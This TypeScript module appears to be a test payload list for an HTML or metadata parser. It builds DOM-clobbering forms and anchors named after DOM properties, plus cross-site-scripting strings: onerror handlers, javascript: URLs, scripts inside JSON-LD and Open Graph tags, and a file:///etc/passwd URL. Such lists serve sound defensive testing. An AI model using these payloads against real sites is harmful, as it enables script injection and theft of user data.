import type { Payload } from './payload';

/** Names by which a document, a form or an element could be asked for something and answer with a piece of the page. */
const NAMES: readonly string[] = [
  'attributes body childNodes children classList className cloneNode content contentDocument cookie createElement',
  'defaultView documentElement firstChild firstElementChild forms getAttribute getElementsByTagName head id innerHTML',
  'innerText insertBefore lastChild localName matches namespaceURI nextSibling nodeName nodeType nodeValue normalize',
  'outerHTML ownerDocument parentElement parentNode previousSibling querySelector querySelectorAll remove removeAttribute',
  'removeChild replaceChild replaceWith setAttribute style tagName textContent title URL baseURI documentURI location',
  'commonplace pwned hasAttribute closest append implementation createTreeWalker',
].flatMap((line) => line.split(' '));

const NAMES_A_PAGE = 4;

/** Forms and images that hide members of the document, of their form and of the window, a few names a page. */
export const CLOBBERING: readonly Payload[] = [
  ...Array.from({ length: Math.ceil(NAMES.length / NAMES_A_PAGE) }, (_, page) =>
    NAMES.slice(page * NAMES_A_PAGE, (page + 1) * NAMES_A_PAGE)
      .map(
        (name) =>
          `<form name=${name} id=${name}><input name=${name}><input name=${name}><p>In the form ${name} is a sentence, ` +
          `which is long enough to be read, as a sentence should be.</p></form><img name=${name} src=x onerror={run}>` +
          `<a id=${name} name=${name} href="javascript:{run}">anchor</a><object id=${name}></object>`,
      )
      .join(''),
  ),
  '<form id=a><input name=attributes><input name=attributes></form><form onclick={run}><input name=attributes>x</form>',
  '<form><input name=removeAttribute><input name=setAttribute><input name=hasAttribute onfocus={run} autofocus></form>',
  '<form onmouseover={run}><input name=nodeName><input name=tagName><input name=localName></form>',
  '<form onfocus={run} tabindex=1 autofocus><input name=namespaceURI><input name=parentNode><input name=childNodes></form>',
  '<a id=__proto__ name=prototype href="javascript:{run}">x</a><p id=constructor>y</p><p id=hasOwnProperty>z</p>',
  '<iframe name=body src="{trap}"></iframe><embed name=head src="{trap}"><object name=forms data="{trap}"></object>',
  '<p id=root>x</p><p id=article>y</p><p id=footnote-1>z</p><a href="#%">a</a><a href="#%E0%A4%A">b</a><a href="#">c</a>',
  '<script type="application/ld+json">{"@type":"Article","headline":"<img src=x onerror={run}>","author":{"__proto__":{"x":1}}}</script>',
  '<script type="application/ld+json">{"@type":"Article","url":"javascript:{run}","image":"javascript:{run}","author":[[[[{}]]]]}</script>',
  '<meta property="og:title" content="<img src=x onerror={run}>"><meta property="og:image" content="javascript:{run}">',
  '<meta name=author content="<script>{run}</script>"><link rel=canonical href="javascript:{run}">',
  '<meta property="og:url" content="file:///etc/passwd"><meta property="og:site_name" content="</title><script>{run}</script>">',
  '<html lang="\'><script>{run}</script>" dir="&quot; onload={run}"><p>again</p>',
  '<base href="javascript:{run}//"><base href="{trap}/"><a href="relative">link</a>',
  '<p class="byline"><a rel=author href="javascript:{run}"><img src=x onerror={run}>By Mallory</a></p>',
  '<time datetime="&quot;><img src=x onerror={run}>">never</time><time datetime="+275760-09-14T00:00:00Z">late</time>',
];
